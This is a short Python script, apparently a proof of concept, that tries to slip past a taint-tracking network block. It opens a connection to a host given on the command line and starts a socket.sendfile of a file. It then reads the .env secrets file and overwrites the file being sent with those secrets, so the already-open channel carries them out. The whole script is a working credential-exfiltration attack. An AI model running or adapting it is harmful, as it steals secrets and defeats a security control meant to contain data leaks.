# rewrite.py IP: the same attack as rewrite.c's "sendfile" mode, in plain Python
# (socket.sendfile uses os.sendfile): clean, send a page of buf; read .env; write
# the secret into buf in place.
import os, socket, sys
ip = sys.argv[1]
s = socket.create_connection((ip, 443)); s.sendall(b"PRE-TAINT-CHANNEL-OK"); s.close(); print("PRE sent")
s = socket.create_connection((ip, 443)); s.sendall(b"LEAK:")
with open("buf", "rb") as f:
    print("socket.sendfile:", s.sendfile(f, 0, 40))
s.close()
secret = open(".env", "rb").read()
print("read .env:", len(secret), "bytes")
try:
    socket.create_connection((ip, 443)); print("after the taint: connected (unexpected)")
except OSError as e:
    print("after the taint: ", e)
fd = os.open("buf", os.O_WRONLY); os.pwrite(fd, secret, 0); os.close(fd); print("secret written into buf in place")
